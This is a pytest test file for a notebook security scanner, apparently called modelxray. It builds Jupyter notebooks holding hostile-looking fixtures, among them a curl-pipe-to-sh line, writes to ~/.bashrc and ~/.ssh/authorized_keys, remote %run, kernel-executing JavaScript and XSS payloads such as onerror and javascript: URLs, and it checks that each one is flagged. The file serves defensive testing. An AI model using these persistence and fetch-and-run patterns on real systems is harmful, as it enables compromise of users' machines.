"""Notebooks: cell magics that write or run code, script in outputs and widget state.

Clean notebooks are built with nbformat (outputs from real libraries: a pandas HTML table, an
ipywidgets widget state from ``ipywidgets.embed``); hostile cells and outputs are written by hand
with harmless payloads (``echo`` into a marker file that must never appear).  Nothing is run.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

import modelxray
from modelxray.formats.notebook import STOCK_WIDGET_MODULES
from modelxray.model import Severity

nbformat = pytest.importorskip("nbformat")
v4 = nbformat.v4

MARK = "echo MODELXRAY_MARKER > /tmp/modelxray_marker_nb"


def _save(tmp_path: Path, nb: Any, name: str = "nb.ipynb") -> Path:
    nbformat.validate(nb)
    path = tmp_path / name
    nbformat.write(nb, str(path))
    return path


def _findings(path: Path, prefix: str = "MX-REPO") -> list[Any]:
    return [f for f in modelxray.scan(str(path)).findings if f.rule_id.startswith(prefix)]


def _seen(path: Path) -> set[tuple[str, tuple[str, ...], Severity]]:
    return {(f.rule_id, f.location.inner, f.severity) for f in _findings(path)}


def _widget_state() -> dict[str, Any]:
    ipywidgets = pytest.importorskip("ipywidgets")
    from ipywidgets.embed import embed_data

    views = [
        ipywidgets.IntSlider(3),
        ipywidgets.HTML("<b>accuracy</b> 0.93"),
        ipywidgets.Dropdown(options=["a", "b"]),
        ipywidgets.Output(),
        ipywidgets.VBox([ipywidgets.Button(description="run"), ipywidgets.Text("x")]),
    ]
    state: dict[str, Any] = embed_data(views=views)["manager_state"]
    return state


def _clean_notebook() -> Any:
    pd = pytest.importorskip("pandas")
    table = pd.DataFrame({"model": ["a", "b"], "accuracy": [0.91, 0.93]})
    nb = v4.new_notebook()
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": _widget_state()}
    nb.cells = [
        v4.new_markdown_cell("# Evaluate\nSee <a href='https://example.invalid'>the card</a>."),
        v4.new_code_cell("%matplotlib inline\n%load_ext autoreload\nimport numpy as np"),
        v4.new_code_cell(
            "table",
            outputs=[
                v4.new_output(
                    "execute_result",
                    data={"text/html": table._repr_html_(), "text/plain": repr(table)},
                    execution_count=1,
                ),
                v4.new_output("stream", name="stdout", text="done\n"),
            ],
        ),
        v4.new_code_cell("%%time\nx = np.ones(3)\n%timeit -n 3 x.sum()"),
        v4.new_code_cell("%%capture out\nprint(x)"),
    ]
    return nb


def test_stock_widget_modules_are_ipywidgets_own() -> None:
    state = _widget_state()
    modules = {m["model_module"] for m in state["state"].values()}
    modules |= {m["state"].get("_view_module") for m in state["state"].values()} - {None}
    assert modules <= STOCK_WIDGET_MODULES
    assert len(modules) == len(STOCK_WIDGET_MODULES)  # every stock module is one ipywidgets uses


def test_clean_notebook_made_by_nbformat(tmp_path: Path) -> None:
    path = _save(tmp_path, _clean_notebook())
    report = modelxray.scan(str(path))
    assert "jupyter-notebook" in report.files[0].formats
    assert [f for f in report.findings if f.severity > Severity.INFO] == []
    # %load_ext is reported, at info, with its cell and line.
    assert {(f.rule_id, f.location.inner) for f in report.findings} == {
        ("MX-REPO-202", ("cell:1", "line:2"))
    }


def test_writefile_judged_by_target(tmp_path: Path, assert_no_marker: None) -> None:
    nb = v4.new_notebook()
    nb.cells = [
        v4.new_code_cell(f"%%writefile -a ~/.bashrc\n{MARK}\n"),
        v4.new_code_cell("%%writefile /usr/lib/python3/dist-packages/zz.pth\nimport os\n"),
        v4.new_code_cell("%%file sitecustomize.py\nprint('hi')\n"),
        v4.new_code_cell("%%writefile '/root/.ssh/authorized_keys'\nssh-ed25519 AAAA x\n"),
        v4.new_code_cell("%%writefile train.py\nimport numpy as np\nprint(np.ones(2))\n"),
        v4.new_code_cell("%%writefile helper.py\nimport os\nos.system('echo hi')\n"),
        v4.new_code_cell("%%writefile {out_dir}/x.txt\nhello\n"),
    ]
    seen = _seen(_save(tmp_path, nb))
    assert seen == {
        ("MX-REPO-201", ("cell:0", "line:1"), Severity.HIGH),
        ("MX-REPO-201", ("cell:1", "line:1"), Severity.HIGH),
        ("MX-REPO-201", ("cell:2", "line:1"), Severity.HIGH),
        ("MX-REPO-201", ("cell:3", "line:1"), Severity.HIGH),
        ("MX-REPO-201", ("cell:4", "line:1"), Severity.INFO),
        ("MX-REPO-201", ("cell:5", "line:1"), Severity.INFO),
        ("MX-REPO-103", ("cell:5", "line:3"), Severity.HIGH),  # the written .py is read
        ("MX-REPO-201", ("cell:6", "line:1"), Severity.MEDIUM),
    }
    (bashrc,) = [f for f in _findings(tmp_path / "nb.ipynb") if f.location.inner[0] == "cell:0"]
    assert bashrc.evidence["append"] is True and bashrc.evidence["target"] == "~/.bashrc"
    assert "shell start-up" in bashrc.message


def test_cells_that_run_or_write_elsewhere(tmp_path: Path, assert_no_marker: None) -> None:
    nb = v4.new_notebook()
    nb.cells = [
        v4.new_code_cell(f"%%capture out\n%%bash\n{MARK}\n"),
        v4.new_code_cell(f"%%script bash --bg\n{MARK}\n"),
        v4.new_code_cell(f'%%perl\nsystem("{MARK}");\n'),
        v4.new_code_cell("%run https://example.invalid/setup.py\n%run helper.py\n"),
        v4.new_code_cell(
            "!echo 'echo hi' >> ~/.bashrc\n!ls | tee -a ~/.profile\n!ls > out.txt 2>&1\n"
            "!cp -f hook.pth /usr/local/lib/python3.11/site-packages/\n!cp a.txt b.txt"
        ),
        v4.new_code_cell("import os\n%time os.system('echo hi')\n"),
        v4.new_code_cell("%%time\n%%writefile -a ~/.zshrc\necho hi\n"),
        v4.new_code_cell("%%script python3\nimport subprocess\nsubprocess.run(['echo'])\n"),
    ]
    assert _seen(_save(tmp_path, nb)) == {
        ("MX-REPO-104", ("cell:0", "line:3"), Severity.MEDIUM),
        ("MX-REPO-104", ("cell:1", "line:2"), Severity.MEDIUM),
        ("MX-REPO-202", ("cell:2", "line:1"), Severity.MEDIUM),
        ("MX-REPO-202", ("cell:3", "line:1"), Severity.HIGH),
        ("MX-REPO-202", ("cell:3", "line:2"), Severity.MEDIUM),
        ("MX-REPO-104", ("cell:4", "line:1"), Severity.HIGH),
        ("MX-REPO-104", ("cell:4", "line:2"), Severity.HIGH),
        ("MX-REPO-104", ("cell:4", "line:3"), Severity.MEDIUM),
        ("MX-REPO-104", ("cell:4", "line:4"), Severity.HIGH),
        ("MX-REPO-104", ("cell:4", "line:5"), Severity.MEDIUM),
        ("MX-REPO-103", ("cell:5", "line:2"), Severity.HIGH),
        ("MX-REPO-201", ("cell:6", "line:2"), Severity.HIGH),
        ("MX-REPO-103", ("cell:7", "line:3"), Severity.HIGH),
    }


def test_get_ipython_calls_are_read_as_what_they_run(tmp_path: Path) -> None:
    nb = v4.new_notebook()
    nb.cells = [
        v4.new_code_cell("get_ipython().system('curl -s http://example.invalid/x | sh')"),
        v4.new_code_cell(
            "ip = get_ipython()\n"
            "ip.run_cell_magic('writefile', '-a ~/.bashrc', 'echo hi\\n')\n"
            "ip.run_line_magic('run', 'https://example.invalid/x.py')\n"
        ),
        v4.new_code_cell("cmd = 'ls'\nget_ipython().system(cmd)\nget_ipython().run_cell(code)"),
    ]
    assert _seen(_save(tmp_path, nb)) == {
        ("MX-REPO-104", ("cell:0", "line:1"), Severity.HIGH),
        ("MX-REPO-201", ("cell:1", "line:2"), Severity.HIGH),
        ("MX-REPO-202", ("cell:1", "line:3"), Severity.HIGH),
        ("MX-REPO-202", ("cell:2", "line:2"), Severity.MEDIUM),
        ("MX-REPO-202", ("cell:2", "line:3"), Severity.HIGH),  # as exec(code) would be
    }


def test_ipython_transformed_cells_get_the_same_verdicts(tmp_path: Path) -> None:
    """A cell and IPython's own translation of it (what jupytext/nbconvert exports hold)."""
    inputtransformer2 = pytest.importorskip("IPython.core.inputtransformer2")
    manager = inputtransformer2.TransformerManager()
    cells = [
        "%%writefile -a ~/.bashrc\necho hi\n",
        "%%bash\ncurl -s http://example.invalid/x | sh\n",
        "!echo hi >> ~/.ssh/authorized_keys\n",
        "%run https://example.invalid/x.py\n",
        "%%capture\n%%perl\nprint 1;\n",
    ]
    for i, source in enumerate(cells):
        nb_raw, nb_ipy = v4.new_notebook(), v4.new_notebook()
        nb_raw.cells = [v4.new_code_cell(source)]
        nb_ipy.cells = [v4.new_code_cell(manager.transform_cell(source))]
        raw = {(f.rule_id, f.severity) for f in _findings(_save(tmp_path, nb_raw, f"r{i}.ipynb"))}
        ipy = {(f.rule_id, f.severity) for f in _findings(_save(tmp_path, nb_ipy, f"i{i}.ipynb"))}
        assert raw and raw == ipy, (source, manager.transform_cell(source))


def _display(data: dict[str, str]) -> Any:
    return v4.new_output("display_data", data=data)


def test_script_bearing_outputs(tmp_path: Path, assert_no_marker: None) -> None:
    kernel = "IPython.notebook.kernel.execute('import os; os.system(\"echo hi\")')"
    nb = v4.new_notebook()
    nb.cells = [
        v4.new_code_cell("x = 1"),
        v4.new_code_cell("show()", outputs=[_display({"application/javascript": kernel})]),
        v4.new_code_cell(
            "show()",
            outputs=[
                _display({"text/plain": "x"}),
                _display({"text/html": "<div>ok</div><script>console.log(1)</script>"}),
            ],
        ),  # fmt: skip
        v4.new_code_cell(
            "show()",
            outputs=[
                _display(
                    {
                        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>"
                        "<script>alert(1)</script></svg>"
                    }
                ),
                _display({"text/html": '<img src=x onerror="alert(1)">'}),
                _display(
                    {"text/markdown": "[x](javascript:alert(1)) <a href=' javascript:x'>y</a>"}
                ),
                _display(
                    {
                        "text/html": "<iframe srcdoc=\"<script>fetch('/api/terminals')</script>\">"
                        "</iframe>"
                    }
                ),
                _display({"text/html": "<script type='application/json'>{\"a\": 1}</script>"}),
            ],
        ),  # fmt: skip
        v4.new_markdown_cell("# Notes\n<script>alert(1)</script>"),
    ]
    seen = _seen(_save(tmp_path, nb))
    assert seen == {
        ("MX-REPO-203", ("cell:1", "output:0", "application/javascript"), Severity.HIGH),
        ("MX-REPO-203", ("cell:2", "output:1", "text/html"), Severity.MEDIUM),
        ("MX-REPO-203", ("cell:3", "output:0", "image/svg+xml"), Severity.MEDIUM),
        ("MX-REPO-203", ("cell:3", "output:1", "text/html"), Severity.MEDIUM),
        ("MX-REPO-203", ("cell:3", "output:2", "text/markdown"), Severity.MEDIUM),
        ("MX-REPO-203", ("cell:3", "output:3", "text/html"), Severity.HIGH),
        ("MX-REPO-203", ("cell:4",), Severity.MEDIUM),
    }
    md = [
        f
        for f in _findings(tmp_path / "nb.ipynb")
        if f.location.inner[:2] == ("cell:3", "output:2")
    ]
    assert len(md) == 2 and all(f.evidence["kind"] == "javascript-url" for f in md)


def test_widget_state_with_script_and_foreign_modules(tmp_path: Path) -> None:
    state = _widget_state()
    html_id = next(k for k, m in state["state"].items() if m["model_name"] == "HTMLModel")
    state["state"][html_id]["state"]["value"] = '<img src=x onerror="alert(1)">'
    state["state"]["f00"] = {
        "model_name": "EvilModel", "model_module": "evil-widgets", "model_module_version": "1.0.0",
        "state": {"_view_module": "evil-widgets", "_view_name": "EvilView"},
    }  # fmt: skip
    nb = v4.new_notebook()
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    nb.cells = [v4.new_code_cell("w")]
    base = ("metadata.widgets", "application/vnd.jupyter.widget-state+json")
    assert _seen(_save(tmp_path, nb)) == {
        ("MX-REPO-203", (*base, html_id, "value"), Severity.MEDIUM),
        ("MX-REPO-203", (*base, "f00"), Severity.LOW),
    }


def test_nbformat3_outputs_and_inputs(tmp_path: Path) -> None:
    doc = {
        "nbformat": 3, "nbformat_minor": 0, "metadata": {},
        "worksheets": [{"cells": [
            {"cell_type": "code", "input": "%%writefile -a ~/.profile\necho hi",
             "language": "python",
             "outputs": [{"output_type": "display_data",
                          "html": ["<p>x</p>", "<script>alert(1)</script>"]}]},
        ]}],
    }  # fmt: skip
    path = tmp_path / "v3.ipynb"
    path.write_text(json.dumps(doc))
    assert _seen(path) == {
        ("MX-REPO-201", ("cell:0", "line:1"), Severity.HIGH),
        ("MX-REPO-203", ("cell:0", "output:0", "text/html"), Severity.MEDIUM),
    }


def test_cell_magic_nesting_is_bounded(tmp_path: Path) -> None:
    nb = v4.new_notebook()
    nb.cells = [v4.new_code_cell("%%capture\n" * 40 + "x = 1\n")]
    (finding,) = _findings(_save(tmp_path, nb))
    assert finding.rule_id == "MX-REPO-105" and "nest" in finding.message


def test_front_end_and_other_language_cells(tmp_path: Path) -> None:
    nb = v4.new_notebook()
    nb.cells = [
        v4.new_code_cell("%%javascript\nIPython.notebook.kernel.execute('1')\n"),
        v4.new_code_cell("%%html\n<b onmouseover='alert(1)'>x</b>\n"),
        v4.new_code_cell('%%R\nsystem("echo hi")\n'),
        v4.new_code_cell("%%latex\n$x^2$\n"),
    ]
    assert _seen(_save(tmp_path, nb)) == {
        ("MX-REPO-203", ("cell:0", "line:1"), Severity.HIGH),
        ("MX-REPO-203", ("cell:1", "line:1"), Severity.MEDIUM),
        ("MX-REPO-202", ("cell:2", "line:1"), Severity.MEDIUM),
    }


def test_markup_the_tokenizer_refuses_fails_closed(tmp_path: Path) -> None:
    """html.parser asserts on an unknown marked section: reported, never a crash or a pass."""
    nb = v4.new_notebook()
    nb.cells = [v4.new_code_cell("x", outputs=[_display({"text/html": "<p>a</p><![a x"})])]
    (finding,) = _findings(_save(tmp_path, nb))
    assert (finding.rule_id, finding.severity) == ("MX-REPO-203", Severity.MEDIUM)
    assert finding.evidence["kind"] == "unreadable"
